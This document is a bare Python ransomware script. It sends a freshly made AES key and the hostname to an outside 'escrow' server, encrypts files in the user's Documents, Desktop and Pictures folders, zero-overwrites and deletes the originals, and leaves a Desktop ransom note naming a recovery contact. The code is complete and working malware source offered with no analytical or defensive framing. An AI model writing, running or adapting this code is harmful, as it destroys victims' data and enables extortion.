#!/usr/bin/env python3
import json, os, pathlib, secrets, socket, urllib.request, uuid
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

ROOTS = [pathlib.Path.home() / "Documents", pathlib.Path.home() / "Desktop", pathlib.Path.home() / "Pictures"]
ESCROW = "https://escrow.vault-sealer.example/v1/keys"
EXT = ".sealed"


def escrow(key: bytes, mid: str):
    body = json.dumps({"machine": mid, "host": socket.gethostname(), "k": key.hex()}).encode()
    urllib.request.urlopen(urllib.request.Request(ESCROW, body, {"content-type": "application/json"}), timeout=15)


def seal_file(aes: AESGCM, p: pathlib.Path):
    nonce = secrets.token_bytes(12)
    data = p.read_bytes()
    p.with_name(p.name + EXT).write_bytes(nonce + aes.encrypt(nonce, data, None))
    with open(p, "r+b") as fh:
        fh.write(b"\0" * len(data))
    p.unlink()


def main():
    mid = uuid.uuid4().hex[:12]
    key = AESGCM.generate_key(bit_length=256)
    escrow(key, mid)
    aes = AESGCM(key)
    n = 0
    for root in ROOTS:
        for p in root.rglob("*"):
            if p.is_file() and not p.name.endswith(EXT) and p.stat().st_size < 512 * 1024 * 1024:
                try:
                    seal_file(aes, p); n += 1
                except OSError:
                    pass
    del key, aes
    (pathlib.Path.home() / "Desktop" / "VAULT-README.txt").write_text(
        f"{n} files sealed. Machine ID: {mid}\nTo recover your files contact recovery@vault-sealer.example with this ID.\n")
    print(f"sealed {n} files; machine id {mid}")


if __name__ == "__main__":
    main()
